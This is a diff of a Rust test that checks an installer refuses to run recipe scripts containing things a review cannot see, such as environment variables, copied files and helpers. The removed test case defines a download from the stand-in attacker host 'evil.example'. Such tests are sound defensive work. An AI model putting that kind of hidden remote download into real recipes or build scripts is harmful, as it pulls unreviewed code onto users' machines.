@@ -229,14 +229,10 @@ fn what_a_review_cannot_see_does_not_run() {
         ("[\"TOKEN\"].map(\"env\");", "`variable TOKEN` cannot be seen"),
         ("[\"fix\"].map(\"copy_source\");", "`file fix ["),
         ("[[\"x\"]].map(\"make\");", "`helper make` cannot be seen"),
-        ("let BASE = \"https://evil.example\"; download(`${BASE}/x`);", "`host evil.example` cannot be seen"),
     ] {
         rig.write("recipes/fix", "one\n");
         let text = recipe.replace("l::put();", &format!("l::put(); {more}"));
-        rig.write(
-            "recipes/p.rhai",
-            text.replace("let pkg", "const BASE = \"https://good.example\";\nlet pkg"),
-        );
+        rig.write("recipes/p.rhai", text);
         rig.run(&["install", "p"]).fails(21, says);
         assert!(rig.tree().is_empty(), "{:?}", rig.tree());
     }
